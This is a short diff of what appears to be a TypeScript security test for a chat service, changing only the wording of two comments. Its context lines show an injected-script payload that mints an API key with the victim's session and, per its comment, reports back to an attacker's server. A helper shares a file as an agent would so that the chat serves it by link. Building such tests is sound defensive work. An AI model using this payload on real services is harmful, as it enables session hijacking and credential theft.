@@ -9,7 +9,7 @@ import { openChat } from './testing-chat.ts'
 
 const skip = cannotRun()
 
-/** Mints an API key with the session of whoever opens it, and reports to the attacker's own server that it ran. */
+/** Mints an API key with the session of the person who opens it, and reports to the attacker's own server that it ran. */
 const attack = (attacker: string) => `
   fetch('/v1/api-keys', {
     method: 'POST',
@@ -53,7 +53,7 @@ const follow = async (page: Page, address: string): Promise<void> => {
   })
 }
 
-/** Shares the picture as an agent would, and says where the chat serves it to whoever has the link. */
+/** Shares the picture as an agent would, and says where the chat serves it to anyone with the link. */
 const shareAttack = async ({ service }: Visit, attacker: string): Promise<string> => {
   const { twin } = await furnish(service)
   const { baseUrl, token } = twin('chat')
